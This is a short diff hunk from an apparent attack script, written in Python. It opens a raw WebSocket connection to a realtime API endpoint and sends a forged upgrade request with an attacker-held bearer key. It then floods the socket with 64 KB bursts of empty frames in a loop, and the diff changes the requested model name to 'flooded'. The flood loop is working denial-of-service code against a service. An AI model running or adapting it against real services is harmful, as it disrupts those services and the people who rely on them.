@@ -130,7 +130,7 @@ async def frames(attacker: Attacker) -> None:
     lines = (f"Host: {HOST}", f"Authorization: Bearer {attacker.key}", "Upgrade: websocket", "Connection: Upgrade")
     secret = ("Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "", "")
     async with attacker.connection() as (reader, writer):
-        writer.write("\r\n".join(("GET /v1/realtime?model=gpt-realtime HTTP/1.1", *lines, *secret)).encode())
+        writer.write("\r\n".join(("GET /v1/realtime?model=flooded HTTP/1.1", *lines, *secret)).encode())
         await reader.readuntil(b"\r\n\r\n")
         while attacker.going_on():
             writer.write(EMPTY_FRAME * (64 * 1024 // len(EMPTY_FRAME)))
